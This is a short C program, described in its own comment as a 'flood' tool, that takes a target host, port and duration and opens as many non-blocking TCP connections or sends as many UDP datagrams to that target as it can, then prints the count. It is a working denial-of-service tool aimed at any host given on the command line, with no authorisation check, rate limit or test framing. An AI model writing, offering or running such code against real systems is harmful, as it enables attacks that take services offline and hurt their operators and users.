/* flood syn|udp HOST PORT SECONDS: begins as many flows as it can, each from another port; prints how many. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 5) {
        return 2;
    }
    int tcp = strcmp(argv[1], "syn") == 0;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
    inet_pton(AF_INET, argv[2], &to.sin_addr);
    time_t end = time(NULL) + atoi(argv[4]);
    long begun = 0;
    while (time(NULL) < end) {
        int made = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);
        if (made < 0) {
            continue;
        }
        if (tcp) {
            connect(made, (struct sockaddr *) &to, sizeof to);
        } else {
            sendto(made, "x", 1, 0, (struct sockaddr *) &to, sizeof to);
        }
        close(made);
        begun++;
    }
    printf("%ld\n", begun);
    return 0;
}
